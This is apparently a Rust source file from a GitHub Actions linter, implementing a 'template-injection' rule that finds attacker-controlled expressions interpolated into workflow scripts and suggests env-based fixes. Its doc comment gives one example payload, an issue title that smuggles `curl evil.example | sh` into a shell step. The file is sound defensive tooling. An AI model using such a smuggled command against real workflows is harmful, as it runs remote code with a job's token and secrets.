//! See the rule's documentation below.

use super::exposure::Exposure;
use super::reporter::Reporter;
use super::script_sink::Sink;
use super::{declare_rule, extraction, word_count};
use crate::detectors::taint::{HarmKind, Side};
use crate::expressions::{ContextUse, Part, Site};
use crate::knowledge::variables;
use crate::knowledge::trust::{self, Trust};
use crate::model::finding::{Confidence, Persona, Related, Safety, Severity};
use crate::model::source_file::SourceFile;
use crate::model::workflow::Event;

declare_rule! {
    /// A value that others control becomes part of a script
    ///
    /// ## Why is this bad?
    /// GitHub puts the value into the script before the shell reads it, so a title such as
    /// `"; curl evil.example | sh; "` is run as code, with the job's token and secrets.
    ///
    /// ## Bad
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Good
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// ## How to fix
    /// Hand the value over in `env` and read the variable, in quotes. In `actions/github-script`
    /// read it from `context.payload` or `process.env`. There is no fix where quotes might change into
    /// how many words a shell splits the value.
    ///
    /// Values are followed through `env`, `$GITHUB_ENV`, `$GITHUB_OUTPUT`, outputs of steps and jobs and the
    /// matrix, and through the commands of scripts; what `eval`, `bash -c` and their like run counts, too.
    /// Where only pull requests from forks bring a value, without secrets and with a token that can only
    /// read, it is a warning. What no event of the workflow can carry is for the pedantic persona.
    ///
    /// Inputs of actions and of called workflows are a warning, since their caller cannot know
    /// that they are code; of those that are named a command or a script the pedantic persona hears. Values that only people with write access control, and those whose
    /// origin is not known, are shown to the pedantic persona, every other expression in a script
    /// to the auditor.
    "template-injection",
    group: Injection,
    since: "0.1.0",
    severity: Error,
    fixable: Unsafe,
    peers: {
        "actionlint": ["expression"],
        "zizmor": ["template-injection"],
        "poutine": ["injection"],
        "scorecard": ["Dangerous-Workflow"],
    },
    checks: [Expression(check), File(check_scripts)],
}

/// The characters of an expression up to which it is repeated in a help.
const LONGEST_SOURCE: usize = 80;

/// The last words in the names of inputs that are there to be run.
const COMMANDS: &[&str] = &["cmd", "command", "commands", "script", "scripts"];

/// Names of inputs that are there to be run, where they are the whole name.
const CODE: &[&str] = &["code", "exec", "run"];

fn check(site: &Site<'_>, reporter: &mut Reporter<'_>) {
    let Some(sink) = Sink::of(site) else {
        check_handed(site, reporter);
        return;
    };
    let mut harmless = true;
    for used in site.contexts.iter().filter(|used| used.flows) {
        let exposure = exposure(site, used, reporter);
        let risk = exposure.as_ref().map_or_else(|| judge(site, used, reporter), Risk::of);
        harmless &= risk == Risk::Harmless;
        if risk != Risk::Harmless {
            report(site, used, &Case { risk, sink, exposure }, reporter);
        }
    }
    if harmless {
        report_harmless(site, sink, reporter);
    }
}

fn exposure<'file>(site: &Site<'_>, used: &ContextUse<'_>, reporter: &Reporter<'file>) -> Option<Exposure<'file>> {
    Exposure::worst(reporter.taint().of(site, used)?, site.job, reporter)
}

fn report_harmless(site: &Site<'_>, sink: Sink<'_>, reporter: &mut Reporter<'_>) {
    let source = site.source();
    let start = site.range.start + source.len() - source.trim_start().len();
    let span = reporter.inside(site.text, start..site.range.start + source.trim_end().len());
    let only = site.contexts.first().filter(|_| site.contexts.len() == 1 && reporter.shows(Risk::Harmless.persona()));
    let fix = only.map(|used| {
        let variable = variable(site, used);
        let draft = extraction::draft(site, used, &variable, reporter);
        (variable, draft)
    });
    let (variable, draft) = fix.unwrap_or_default();
    reporter
        .report(span, format!("an expression becomes part of {sink}"))
        .severity(Severity::Info)
        .confidence(Confidence::Low)
        .persona(Risk::Harmless.persona())
        .fix(Safety::Unsafe, title(&variable), draft)
        .help("hand the value over in `env`, so that it can never be read as code");
}

/// What there is to report about a context.
struct Case<'file> {
    risk: Risk,
    sink: Sink<'file>,
    /// Where its value comes from, if that is known.
    exposure: Option<Exposure<'file>>,
}

fn report(site: &Site<'_>, used: &ContextUse<'_>, case: &Case<'_>, reporter: &mut Reporter<'_>) {
    let Case { risk, sink, exposure } = case;
    let name = site.text.value.get(used.range.clone()).unwrap_or_default();
    let variable = variable(site, used);
    let span = reporter.inside(site.text, used.range.clone());
    let is_shown = reporter.shows(risk.persona());
    let help = if is_shown { help(site, used, case, reporter) } else { String::new() };
    let draft = is_shown.then(|| extraction::draft(site, used, &variable, reporter)).flatten();
    let places = exposure.as_ref().map(|exposure| exposure.places(reporter)).unwrap_or_default();
    let message = match exposure {
        Some(exposure) if !exposure.is_direct() => {
            format!("`{name}`, which holds {}, becomes part of {sink}", exposure.origin.name)
        }
        _ if matches!(risk, Risk::Caller | Risk::Command) => format!("the input `{name}` becomes part of {sink}"),
        _ => format!("`{name}` becomes part of {sink}"),
    };
    let report = reporter.report(span, message).help(help).fix(Safety::Unsafe, title(&variable), draft);
    let report = match risk {
        Risk::Harmless => report,
        Risk::Outsider => {
            let who = exposure.as_ref().map(|exposure| exposure.origin.who.clone()).unwrap_or_default();
            report.note(format!("{who} decides what it is, and so what runs here"))
        }
        Risk::Caller => report
            .severity(Severity::Warning)
            .confidence(Confidence::Medium)
            .note("whoever uses this cannot know that the value is run as code, and may hand over text of others"),
        Risk::Command => report
            .severity(Severity::Info)
            .confidence(Confidence::Low)
            .persona(risk.persona())
            .note("by its name it is there to be run, but whoever uses this may hand over text of others"),
        Risk::Insider | Risk::Unknown => {
            report.severity(Severity::Info).confidence(Confidence::Low).persona(risk.persona())
        }
    };
    if let Some(exposure) = exposure {
        exposure.tell(&places, report);
    }
}

/// Says how the value is handed over instead.
fn help(site: &Site<'_>, used: &ContextUse<'_>, case: &Case<'_>, reporter: &Reporter<'_>) -> String {
    if case.risk == Risk::Command {
        return "say in the input's description that it is run as code".to_owned();
    }
    if matches!(case.sink, Sink::Remote(_, None)) {
        let why = "the other host has no variables of the step";
        return format!("look at the value in a step before, from a variable of its `env`: {why}");
    }
    let variable = variable(site, used);
    let is_set = used.is("env") || variables::same_as(used.root(), used.name(1).unwrap_or_default()).is_some();
    let reading = case.sink.reading(site, used, &variable, reporter);
    let (way, limit) = (reading.way, reading.limit);
    if is_set && used.parts.len() == 2 && used.name(1).is_some() && word_count::is_all_of(site, used) {
        return format!("{way}, which has the same value{limit}");
    }
    let source = site.source().split_whitespace().collect::<Vec<_>>().join(" ");
    if source.chars().count() > LONGEST_SOURCE {
        return format!("set `{variable}` to the expression under the step's `env` and {way}{limit}");
    }
    format!("set `{variable}: ${{{{ {source} }}}}` under the step's `env` and {way}{limit}")
}

/// Reports what strangers decide and an action or a workflow of the repository runs as code.
fn check_handed(site: &Site<'_>, reporter: &mut Reporter<'_>) {
    let Some((uses, place)) = handed(site, reporter) else { return };
    for used in site.contexts.iter().filter(|used| used.flows) {
        let Some(exposure) = exposure(site, used, reporter).filter(Exposure::is_of_strangers) else { continue };
        let name = site.text.value.get(used.range.clone()).unwrap_or_default();
        let (places, span) = (exposure.places(reporter), reporter.inside(site.text, used.range.clone()));
        let holding = exposure.holding();
        let report = reporter
            .report(span, format!("`{name}`{holding} becomes code in `{uses}`"))
            .note(format!("{} decides what it is, and so what runs there", exposure.origin.who))
            .help("let the script there read the input from a variable of its step's `env`, in quotes");
        exposure.tell(&places, report).elsewhere(place.clone());
    }
}

/// Returns what runs an input as code that an expression is handed to, and where.
fn handed<'file>(site: &Site<'_>, reporter: &Reporter<'file>) -> Option<(String, &'file Related)> {
    let surroundings = reporter.surroundings();
    let (uses, passages, input) = match (site.path.as_slice(), site.step) {
        ([.., "with", input], Some(step)) => {
            let uses = step.uses()?;
            (uses, &surroundings.action(&uses.value)?.passages, input)
        }
        (["jobs", _, "with", input], None) => {
            let uses = site.job?.uses.as_ref()?;
            (uses, &surroundings.workflow(&uses.value)?.passages, input)
        }
        _ => return None,
    };
    Some((uses.value.trim().to_owned(), passages.code.get(&input.to_ascii_lowercase())?))
}

/// Reports what a script runs as code by itself.
fn check_scripts(_: &SourceFile, reporter: &mut Reporter<'_>) {
    let taint = reporter.taint();
    for harm in taint.harms() {
        let (program, help) = match &harm.kind {
            HarmKind::Runs(program) => {
                (program.as_str(), "hand the value over as an argument or in a variable that the code reads, in quotes")
            }
            HarmKind::Pastes => {
                ("the command prompt", "read the variable in PowerShell, or as `!NAME!` under `setlocal EnableDelayedExpansion`")
            }
            HarmKind::Sets(_) => continue,
        };
        // An input that names a program, or code, is there to be run.
        let exposure = Exposure::worst(&harm.flows, harm.job, reporter).filter(Exposure::is_of_strangers);
        let Some(exposure) = exposure else { continue };
        let places = exposure.places(reporter);
        let span = reporter.inside(harm.text, harm.range.clone());
        let report = reporter
            .report(span, format!("{} is run as code by {program}", exposure.origin.name))
            .help(help);
        let who = format!("{} decides what it is, and so what runs here", exposure.origin.who);
        exposure.tell(&places, report.note(who));
    }
}

fn title(variable: &str) -> String {
    format!("read the value from the variable `{variable}`")
}

/// What an expression in a script can do, the worst last.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Risk {
    Harmless,
    Unknown,
    Insider,
    /// An input that is there to be run.
    Command,
    Caller,
    Outsider,
}

impl Risk {
    fn of(exposure: &Exposure<'_>) -> Self {
        match &exposure.origin.side {
            Side::Stranger => Self::Outsider,
            Side::Caller(input) => of_caller(input),
        }
    }

    fn persona(self) -> Persona {
        match self {
            Self::Harmless => Persona::Auditor,
            Self::Unknown | Self::Insider | Self::Command => Persona::Pedantic,
            Self::Caller | Self::Outsider => Persona::Regular,
        }
    }
}

fn judge(site: &Site<'_>, used: &ContextUse<'_>, reporter: &Reporter<'_>) -> Risk {
    let lower = used.lower();
    let path: Vec<&str> = lower.iter().map(String::as_str).collect();
    if let ["env", name] = path.as_slice() {
        return environment(site, name, reporter);
    }
    match trust::of(&path) {
        Trust::Insider if path.first() == Some(&"inputs") => of_input(path.get(1).copied().unwrap_or_default(), reporter),
        // Where no event of the workflow carries it, or a condition keeps strangers out, insiders are left.
        Trust::Outsider | Trust::Insider => Risk::Insider,
        Trust::Unknown => Risk::Unknown,
        Trust::Fixed => Risk::Harmless,
    }
}

/// Judges an input: text in an action or a called workflow comes from a caller who does not know
/// what happens to it.
fn of_input(name: &str, reporter: &Reporter<'_>) -> Risk {
    if let Some(action) = reporter.file().action() {
        // What is not declared is always empty.
        let is_declared = action.inputs.iter().any(|input| input.name.value.eq_ignore_ascii_case(name));
        return if is_declared || matches!(name, "" | "*") { of_caller(name) } else { Risk::Harmless };
    }
    let declared = |event: Event| {
        let kind = reporter.names().input(event, name)?.kind().unwrap_or("string");
        Some(!matches!(kind, "boolean" | "number" | "choice" | "environment"))
    };
    match (declared(Event::WorkflowCall), declared(Event::WorkflowDispatch)) {
        (Some(true), _) => of_caller(name),
        (_, Some(true)) | (None, None) => Risk::Insider,
        (Some(false), _) | (_, Some(false)) => Risk::Harmless,
    }
}

/// Judges what a caller hands over by the input's name: a command is there to be run.
fn of_caller(name: &str) -> Risk {
    let last = name.rsplit(['-', '_']).next().unwrap_or_default();
    let is_code = COMMANDS.contains(&last) || CODE.contains(&name);
    if is_code { Risk::Command } else { Risk::Caller }
}

/// Follows a variable to the nearest `env` that sets it.
fn environment(site: &Site<'_>, name: &str, reporter: &Reporter<'_>) -> Risk {
    let Some(value) = reporter.variables().value(name, site) else { return Risk::Unknown };
    if !value.has_expression() {
        return Risk::Harmless;
    }
    let read = reporter.sites_in(value).flat_map(|site| &site.contexts).filter(|used| used.flows && !used.is("env"));
    read.map(|used| judge(site, used, reporter)).max().unwrap_or(Risk::Unknown)
}

/// Makes a variable's name of a context: its last two names, in capitals. A variable's own name, and
/// one that the runner sets with the same value, need no other.
fn variable(site: &Site<'_>, used: &ContextUse<'_>) -> String {
    // What is computed has another value than the variable.
    let is_all = word_count::is_all_of(site, used);
    if let (2, Some(name), true) = (used.parts.len(), used.name(1), is_all) {
        if used.is("env") {
            return name.to_owned();
        }
        if let Some(same) = variables::same_as(used.root(), name) {
            return same;
        }
    }
    let is_telling = |name: &&str| !["event", "outputs"].iter().any(|word| name.eq_ignore_ascii_case(word));
    let capitals = |name: &str| {
        name.to_ascii_uppercase().replace(|character: char| !character.is_ascii_alphanumeric(), "_")
    };
    let index = |at: usize| {
        let is_number = matches!(used.parts.get(at), Some(Part::Number));
        let text = used.ranges.get(at).filter(|_| is_number).and_then(|range| site.text.value.get(range.clone()))?;
        Some(text.trim_matches(['[', ']', ' ']))
    };
    let names: Vec<String> = (1..used.parts.len())
        .filter_map(|at| used.name(at).or_else(|| index(at)))
        .filter(is_telling)
        .map(capitals)
        .collect();
    let last = names.iter().skip(names.len().saturating_sub(2)).cloned().collect::<Vec<_>>().join("_");
    let with_context = format!("{}_{last}", capitals(used.root()));
    match names.len() {
        0 => "VALUE".to_owned(),
        // The runner would put its own value, which is another one in a container.
        1 if variables::is_of_runner(&with_context) => format!("CONTEXT_{last}"),
        _ if variables::is_taken(&last) => with_context,
        1 if !used.is("secrets") && !used.is("vars") => with_context,
        _ => last,
    }
}
